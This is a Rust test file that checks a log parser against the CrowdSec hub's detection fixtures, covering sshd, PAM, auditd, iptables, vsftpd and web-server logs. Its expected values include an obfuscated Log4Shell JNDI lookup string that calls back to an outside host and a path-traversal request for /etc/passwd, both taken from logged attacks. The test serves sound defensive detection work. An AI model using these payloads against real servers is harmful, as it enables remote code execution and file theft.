//! The CrowdSec hub's test fixtures (`../shared/corpus/samples/crowdsec-hub-tests` beside the
//! workspace): every line of every fixture is parsed or counted as malformed with a reason,
//! never a panic; the syslog, sshd, PAM, auditd, iptables, vsftpd and web server fixtures all
//! parse, and a few of their events are checked field by field. (The CEF, firewall appliance,
//! Windows and cloud fixtures are another test's business; here they are only counted.)
//!
//! When the corpus is absent the tests print a notice and pass.

use std::collections::BTreeMap;
use std::path::PathBuf;

use chrono::{DateTime, Utc};
use vigil_parsers::{Event, InputFormat, LogSource, ParseContext, parse};

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/corpus/samples/crowdsec-hub-tests/tests");

/// The `log_type`s of the fixtures this test holds to "every line parses".
const OURS: [&str; 5] = ["syslog", "auditd", "vsftpd", "nginx", "modsecurity"];

/// Fixtures of those types that are another parser's (pfSense/OPNsense `filterlog`): counted only.
const NOT_OURS: [&str; 3] = ["pf-logs", "pf-scan-multi-port", "pfsense-rfc5424-filterlog"];

struct Fixture {
    name: String,
    log_type: String,
    lines: Vec<String>,
}

fn fixtures() -> Option<Vec<Fixture>> {
    let dir = PathBuf::from(FIXTURES);
    let Ok(entries) = std::fs::read_dir(&dir) else {
        eprintln!("notice: {FIXTURES} is absent; skipping the CrowdSec fixture tests");
        return None;
    };
    let mut out = Vec::new();
    let mut dirs: Vec<PathBuf> = entries.filter_map(|e| e.ok().map(|e| e.path())).filter(|p| p.is_dir()).collect();
    dirs.sort();
    for d in dirs {
        let name = d.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
        let config = std::fs::read_to_string(d.join("config.yaml")).unwrap_or_default();
        let log_type = config
            .lines()
            .find_map(|l| l.trim().strip_prefix("log_type:"))
            .map(|t| t.trim().to_owned())
            .unwrap_or_default();
        let mut logs: Vec<PathBuf> = std::fs::read_dir(&d)
            .map(|r| {
                r.filter_map(|e| e.ok().map(|e| e.path()))
                    .filter(|p| p.extension().is_some_and(|x| x == "log"))
                    .collect()
            })
            .unwrap_or_default();
        logs.sort();
        let mut lines = Vec::new();
        for log in logs {
            let data = std::fs::read(&log).unwrap_or_default();
            let text = String::from_utf8_lossy(&data);
            lines.extend(text.lines().filter(|l| !l.trim().is_empty()).map(str::to_owned));
        }
        out.push(Fixture { name, log_type, lines });
    }
    Some(out)
}

fn ctx() -> ParseContext {
    let received =
        DateTime::parse_from_rfc3339("2026-11-23T12:00:00Z").map(|d| d.with_timezone(&Utc)).unwrap_or_default();
    let mut ctx = ParseContext::new(received);
    ctx.tz = chrono_tz::UTC;
    ctx
}

fn parse_line(line: &str) -> Result<Event, vigil_parsers::ParseError> {
    parse(line.as_bytes(), &ctx(), InputFormat::Auto)
}

fn is_ours(f: &Fixture) -> bool {
    OURS.contains(&f.log_type.as_str()) && !NOT_OURS.contains(&f.name.as_str())
}

#[test]
fn every_fixture_line_parses_or_is_counted_with_a_reason() {
    let Some(fixtures) = fixtures() else { return };
    let mut failures = Vec::new();
    let mut total = 0;
    for f in &fixtures {
        let mut errors: BTreeMap<&str, usize> = BTreeMap::new();
        let mut logsources: BTreeMap<String, usize> = BTreeMap::new();
        for line in &f.lines {
            total += 1;
            match parse_line(line) {
                Ok(e) => {
                    let ls = &e.logsource;
                    let key = format!(
                        "{}/{}/{}",
                        ls.product.as_deref().unwrap_or("-"),
                        ls.category.as_deref().unwrap_or("-"),
                        ls.service.as_deref().unwrap_or("-")
                    );
                    *logsources.entry(key).or_default() += 1;
                }
                Err(e) => {
                    assert!(!e.reason().is_empty());
                    *errors.entry(e.reason()).or_default() += 1;
                    if is_ours(f) {
                        failures.push(format!("{}: {}: {line}", f.name, e.reason()));
                    }
                }
            }
        }
        println!(
            "{:<34} {:<18} {:>3} lines, malformed {errors:?}, logsources {logsources:?}",
            f.name,
            f.log_type,
            f.lines.len()
        );
    }
    println!("{} fixtures, {total} lines", fixtures.len());
    for f in &failures {
        println!("  {f}");
    }
    assert!(failures.is_empty(), "{} syslog/auditd/web lines did not parse", failures.len());
}

/// The first line of `fixture` (all of them when `nth` is `None`) parsed, with the fields asked for.
fn check(fixture: &str, nth: usize, want_logsource: LogSource, want: &[(&str, &str)]) {
    let Some(fixtures) = fixtures() else { return };
    let f = fixtures.iter().find(|f| f.name == fixture).unwrap_or_else(|| panic!("no fixture {fixture}"));
    let line = f.lines.get(nth).unwrap_or_else(|| panic!("{fixture} has no line {nth}"));
    let e = parse_line(line).unwrap_or_else(|e| panic!("{fixture}: {e}: {line}"));
    assert_eq!(e.logsource, want_logsource, "{fixture}: {line}");
    for (name, value) in want {
        let got = e.field(name).map(|v| v.as_text().into_owned());
        assert_eq!(got.as_deref(), Some(*value), "{fixture}: field {name} of {line}");
    }
}

fn linux(service: &str) -> LogSource {
    LogSource::new(Some("linux"), None, Some(service))
}

#[test]
fn sshd_fixtures() {
    check(
        "ssh-bf",
        0,
        linux("sshd"),
        &[
            ("event", "invalid_user"),
            ("user", "pascal"),
            ("src_ip", "35.188.49.176"),
            ("src_port", "53502"),
            ("host", "sd-126005"),
            ("pid", "16378"),
        ],
    );
    check("ssh-bf", 5, linux("sshd"), &[("app", "sshd-session"), ("user", "pascal5")]);
    check(
        "sshd-invalid-bf",
        0,
        linux("sshd"),
        &[("event", "disconnected"), ("user", "root"), ("src_ip", "179.43.183.98")],
    );
    check(
        "sshd-success-logs",
        3,
        linux("sshd"),
        &[
            ("event", "accepted"),
            ("auth_method", "password"),
            ("user", "test"),
            ("src_ip", "192.168.121.1"),
            ("src_port", "43124"),
        ],
    );
    check(
        "sshd-refused-conn",
        0,
        linux("sshd"),
        &[("event", "refused_connect"), ("src_ip", "192.168.1.1"), ("src_host", "example.com")],
    );
    check(
        "sshd-bad-keyexchange-bf",
        0,
        linux("sshd"),
        &[("event", "negotiation_failed"), ("src_ip", "123.57.135.134"), ("src_port", "45626")],
    );
    check("ssh-timeout", 0, linux("sshd"), &[("event", "timeout"), ("src_ip", "192.168.9.212")]);
    check(
        "sshd_banner_exchange",
        0,
        linux("sshd"),
        &[("event", "bad_banner"), ("src_ip", "59.91.122.57"), ("src_port", "34388")],
    );
    check(
        "sshd-logs",
        3,
        linux("sshd"),
        &[
            ("event", "auth_failure"),
            ("pam.module", "pam_unix"),
            ("pam.type", "auth"),
            ("src_ip", "5.33.63.160"),
            ("user", "workshop"),
        ],
    );
    check(
        "sshd-logs-fp",
        0,
        linux("sshd"),
        &[("event", "session_closed"), ("user", "ansible"), ("src_ip", "192.168.1.1")],
    );
    // RFC 5424 from OPNsense, with structured data.
    check(
        "opnsense-sshd",
        0,
        linux("sshd"),
        &[
            ("event", "invalid_user"),
            ("user", "tutu"),
            ("src_ip", "1.2.3.4"),
            ("sd.meta.sequenceId", "1"),
            ("host", "OPNsense.localdomain"),
            ("pid", "44255"),
        ],
    );
}

#[test]
fn pam_sudo_pkexec_and_syslog_fixtures() {
    check(
        "pam-logs",
        1,
        linux("sudo"),
        &[
            ("event", "auth_failure"),
            ("pam.service", "sudo"),
            ("user", "zbadguy"),
            ("uid", "4001"),
            ("tty", "/dev/pts/12"),
        ],
    );
    check("pam-logs", 0, linux("sudo"), &[("pam.module", "pam_tally2"), ("pam.service", "sudo")]);
    check("CVE-2021-4034", 0, linux("auth"), &[("app", "pkexec"), ("pid", "387348")]);
    check("smb-bf", 0, linux("syslog"), &[("app", "smb"), ("host", "host2")]);
    check("opnsense-gui-auth", 0, linux("syslog"), &[("app", "audit"), ("pid", "24409")]);
}

#[test]
fn auditd_fixtures() {
    let auditd = linux("auditd");
    check(
        "auditd-base64-exec",
        0,
        auditd.clone(),
        &[
            ("type", "SYSCALL"),
            ("syscall", "59"),
            ("SYSCALL", "execve"),
            ("exe", "/usr/bin/perl"),
            ("comm", "perl"),
            ("auid", "1000"),
            ("audit_id", "1684329817.579:2995"),
        ],
    );
    check("auditd-suid-crash", 1, auditd.clone(), &[("type", "EXECVE"), ("argc", "1"), ("a0", "-bash")]);
    check("auditd-suid-crash", 2, auditd, &[("type", "PATH"), ("name", "/bin/bash"), ("nametype", "NORMAL")]);
}

#[test]
fn firewall_vsftpd_and_web_fixtures() {
    let fw = LogSource::new(Some("linux"), Some("firewall"), None);
    check(
        "iptables-logs",
        0,
        fw.clone(),
        &[
            ("src_ip", "195.54.160.107"),
            ("dst_ip", "51.15.166.67"),
            ("src_port", "8080"),
            ("dst_port", "8123"),
            ("proto", "tcp"),
            ("in_interface", "enp1s0"),
        ],
    );
    check(
        "iptables-logs",
        3,
        fw,
        &[
            ("action", "drop"),
            ("blocked", "true"),
            ("log_prefix", "IPTABLES-DROP:"),
            ("proto", "udp"),
            ("dst_port", "53"),
        ],
    );
    check(
        "vsftpd-logs",
        2,
        linux("vsftpd"),
        &[("event", "fail_login"), ("user", "user"), ("src_ip", "93.24.101.89"), ("pid", "27244")],
    );
    let web = LogSource::new(None, Some("webserver"), None);
    check(
        "nginx-http-path-traversal",
        0,
        web.clone(),
        &[
            ("c-ip", "127.0.0.1"),
            ("cs-method", "GET"),
            ("cs-uri-stem", "/%2fetc%2fpasswd"),
            ("sc-status", "404"),
            ("cs-user-agent", "curl/7.68.0"),
        ],
    );
    check(
        "apache_log4j2_cve-2021-44228",
        2,
        web,
        &[("cs-referer", "${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}")],
    );
    check(
        "modsecurity",
        0,
        LogSource::new(Some("modsecurity"), None, Some("apache")),
        &[("level", "error"), ("pid", "2560"), ("c-ip", "::1")],
    );
}
